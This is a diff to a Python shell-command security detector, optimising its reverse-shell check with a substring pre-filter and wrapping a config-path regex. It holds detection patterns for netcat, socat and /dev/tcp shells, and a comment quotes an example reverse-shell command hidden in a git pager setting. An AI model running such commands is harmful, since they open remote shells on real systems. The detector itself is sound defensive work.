@@ -34,6 +34,7 @@ from gate.catalogue import functions_for, risky_destination
 from gate.effects import DESCRIBED_OFFLINE, DESCRIBED_PLAIN, program_effects, unknown_effect
 from gate.model import Risk
 from gate.nochange import quiet_use
+from gate.prefix import Guarded
 from gate.redact import find_secrets
 from gate.rules.shell_credentials import cluster_secrets_dump
 from gate.rules.shell_evasion import quarantine_staged
@@ -302,7 +303,7 @@ def judge(d: Detector, cmd: Command, analysis: ShellAnalysis, where: str, add: A
         implant(cmd, where, add)
     for step in plan.coded:
         step(d, cmd, analysis, where, add, text)
-    if _NET_SHELL_HINT.search(text) and name not in _SHELL_TEXT_READERS and \
+    if _net_shell_words(text) and _NET_SHELL_HINT.search(text) and name not in _SHELL_TEXT_READERS and \
             (name not in _TEXT_OUT_ONLY or any(not _DOCUMENT.search(t) for _, t in cmd.redirects)):
         network_shell_argument(d, cmd, where, add)
 
@@ -311,6 +312,14 @@ def judge(d: Detector, cmd: Command, analysis: ShellAnalysis, where: str, add: A
 # script, a client's output pipe (`git config core.pager 'nc HOST 4444 -e /bin/sh'`, `psql -o '|sh -c ...'`)
 _NET_SHELL_HINT = re.compile(r"/dev/(?:tcp|udp)/|\b(?:nc|ncat|netcat)(?:\.\w+)?\b[^|;&]*\s-[a-z]*[ec]\s|"
                              r"\bsocat\b[^;&]*\b(?:exec|system):")
+
+
+def _net_shell_words(text: str) -> bool:
+    """Whether `text` holds a word every match of `_NET_SHELL_HINT` holds: most commands hold none, and the hint's
+    search tries its branches at every position."""
+    return "nc" in text or "/dev/" in text or "socat" in text or "netcat" in text
+
+
 # where the command line may start inside such an argument (after sed's `4i`, a cron time, a `|`)
 _NET_SHELL_START = re.compile(r"\b(?:nc|ncat|netcat|socat|bash|sh|zsh|dash|ksh|exec)\b")
 # programs that only search for, show or record such text: a reviewer grepping for reverse shells, a commit message
@@ -915,7 +924,8 @@ _BULK_READERS = frozenset({
     "restic", "borg", "tar.exe", "zstd", "gzip", "xz", "bzip2",
 })
 _RECURSIVE_FLAG = re.compile(r"^-[a-zA-Z]*[rRa][a-zA-Z]*$|^--(recursive|archive|dereference-recursive)$")
-_OWN_PARENT_HINT = re.compile(r"\.local|\.config|/run/user|\$\{?XDG_|application support|appdata", re.IGNORECASE)
+_OWN_PARENT_HINT = Guarded(re.compile(r"\.local|\.config|/run/user|\$\{?XDG_|application support|appdata",
+                                      re.IGNORECASE))  # (a case-blind alternation: searched where a word of it is)
 _XDG_BASE = re.compile(r"^\$\{?XDG_(CONFIG|DATA|STATE|RUNTIME)_(HOME|DIR)\}?/*$")
 _METADATA_ONLY = frozenset({"ls", "stat", "du", "file", "test", "[", "realpath", "readlink", "dirname",
                             "basename", "cd", "pwd", "df", "find", "tree", "exa", "eza", "mkdir"})
